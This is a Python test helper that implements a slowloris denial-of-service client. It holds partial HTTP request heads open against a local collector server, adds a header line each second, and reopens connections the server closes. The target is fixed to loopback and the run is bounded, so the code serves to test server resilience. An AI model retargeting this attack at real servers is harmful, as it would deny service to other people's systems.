"""A slowloris client for the collector's tests: ``python -m tests.slowloris PORT N SECONDS SOURCE [REOPEN]``.

It opens ``N`` connections to ``127.0.0.1:PORT`` from the loopback address ``SOURCE`` (each
attacker process its own, so that the attack does not use up the ephemeral ports of 127.0.0.1),
sends each the start of a request head, and then one more header line every second, never the
end of the head. Every ``REOPEN`` seconds (default 0: never) it opens again the connections the
server closed, as the slowloris tools do at each round. After ``SECONDS`` it prints what happened
as one JSON line: the connections opened (first ones and again), those the server closed, the
answers it sent them (408, 503), and the most open at once.

Only loopback is a target, and the run is bounded in connections and time.
"""

from __future__ import annotations

import errno
import json
import resource
import selectors
import socket
import sys
import time

HEAD = b"POST /v1/campaigns/0/reports HTTP/1.1\r\nHost: collector\r\nContent-Type: application/json\r\n"


def attack(port: int, n: int, seconds: float, source: str, reopen: float = 0.0) -> dict[str, int]:
    """Hold ``n`` half-sent requests open against ``127.0.0.1:port`` for ``seconds`` (see module doc)."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    sel = selectors.DefaultSelector()
    stats = {"opened": 0, "reopened": 0, "closed_by_server": 0, "answered": 0, "failed": 0, "most_open": 0}
    live: set[socket.socket] = set()

    def open_one(again: bool) -> None:
        s = socket.socket()
        s.setblocking(False)
        try:
            s.bind((source, 0))
            err = s.connect_ex(("127.0.0.1", port))
        except OSError:
            s.close()
            stats["failed"] += 1
            return
        if err not in (0, errno.EINPROGRESS):
            s.close()
            stats["failed"] += 1
            return
        stats["reopened" if again else "opened"] += 1
        sel.register(s, selectors.EVENT_WRITE, "connecting")

    for _ in range(n):
        open_one(False)
    end = time.monotonic() + seconds
    next_trickle = time.monotonic() + 1.0
    next_round = time.monotonic() + reopen if reopen > 0 else float("inf")
    dead = 0
    while time.monotonic() < end:
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            assert isinstance(s, socket.socket)
            if key.data == "connecting":
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    sel.unregister(s)
                    s.close()
                    stats["failed"] += 1
                    continue
                try:
                    s.send(HEAD)
                except OSError:
                    sel.unregister(s)
                    s.close()
                    continue
                sel.modify(s, selectors.EVENT_READ, "open")
                live.add(s)
                stats["most_open"] = max(stats["most_open"], len(live))
                continue
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            stats["answered"] += data.startswith(b"HTTP/1.1 ")
            sel.unregister(s)
            live.discard(s)
            s.close()
            stats["closed_by_server"] += 1
            dead += 1
        if time.monotonic() >= next_round:
            next_round += reopen
            for _ in range(dead):
                open_one(True)
            dead = 0
        if time.monotonic() >= next_trickle:
            next_trickle += 1.0
            for s in list(live):
                try:
                    s.send(b"X-Slow: 1\r\n")
                except OSError:
                    pass
    for key in list(sel.get_map().values()):
        key.fileobj.close()  # type: ignore[union-attr]
    return stats


if __name__ == "__main__":
    reopen = float(sys.argv[5]) if len(sys.argv) > 5 else 0.0
    print(json.dumps(attack(int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), sys.argv[4], reopen)), flush=True)
